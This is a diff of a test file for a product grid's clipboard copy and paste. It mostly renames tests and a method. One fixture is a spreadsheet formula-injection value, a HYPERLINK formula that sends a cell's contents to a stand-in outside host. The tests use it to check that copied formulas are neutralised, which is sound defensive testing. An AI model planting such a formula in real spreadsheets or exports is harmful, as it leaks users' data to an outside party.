@@ -36,26 +36,26 @@ afterEach(() => {
 
 const formula = '=HYPERLINK("https://elsewhere.example/"&A1)'
 
-test('what a spreadsheet would run is copied so that it does not, and pasted as it was', async () => {
+test('a formula is copied as text that no spreadsheet runs, and pasted unchanged', async () => {
   const products = [buildRowProduct(0, { name: formula }), buildRowProduct(1)]
   const grid = await openGrid(Promise.resolve(products), [{ name: formula }, {}])
-  await grid.replica(0, 0)
+  await grid.copy(0, 0)
   expect(clipboard.texts.get('text/plain')).toBe(`'${formula}`)
   expect(clipboard.texts.get('text/html')).toContain(`<td>'=HYPERLINK(`)
   await grid.paste(1, `'${formula}`)
   expect(grid.entered()).toEqual([[products[1]?.id, { name: formula }]])
 })
 
-test('figures stay figures', async () => {
+test('numbers are copied as numbers', async () => {
   const grid = await openGrid(Promise.resolve([]), [{ quantity: -3 }, {}])
-  await grid.replica(0, 3)
+  await grid.copy(0, 3)
   expect(clipboard.texts.get('text/plain')).toBe('-3')
 })
 
-test('a copy that is stopped leaves the clipboard as it was', async () => {
+test('stopping a copy leaves the clipboard unchanged', async () => {
   const { promise, resolve } = Promise.withResolvers<readonly Product[]>()
   const grid = await openGrid(promise)
-  const copied = grid.replica(0, 1)
+  const copied = grid.copy(0, 1)
   expect(grid.stop()).toBe(true)
   await copied
   expect(grid.notice()).toBe('Stopped. Everything is as it was before.')
@@ -64,7 +64,7 @@ test('a copy that is stopped leaves the clipboard as it was', async () => {
   expect(clipboard.texts.size).toBe(0)
 })
 
-test('what finds no row or column when it is pasted is said', async () => {
+test('a paste reports cells beyond the last row or column', async () => {
   const products = [buildRowProduct(0), buildRowProduct(1)]
   const grid = await openGrid(Promise.resolve(products))
   await grid.pasteBlock(1, [['One'], ['Two'], ['Three']])
@@ -76,7 +76,7 @@ test('what finds no row or column when it is pasted is said', async () => {
   expect(grid.notice()).toBeUndefined()
 })
 
-test('a pasted amount that can be read in two ways waits for an answer, and nothing is typed', async () => {
+test('an ambiguous pasted amount waits for an answer and changes nothing', async () => {
   const grid = await openGrid(Promise.resolve([buildRowProduct(0), buildRowProduct(1)]))
   await grid.pasteBlock(0, [['Mug', '', '1.234']])
   expect([grid.isUnclear(), grid.entered()]).toEqual([true, []])
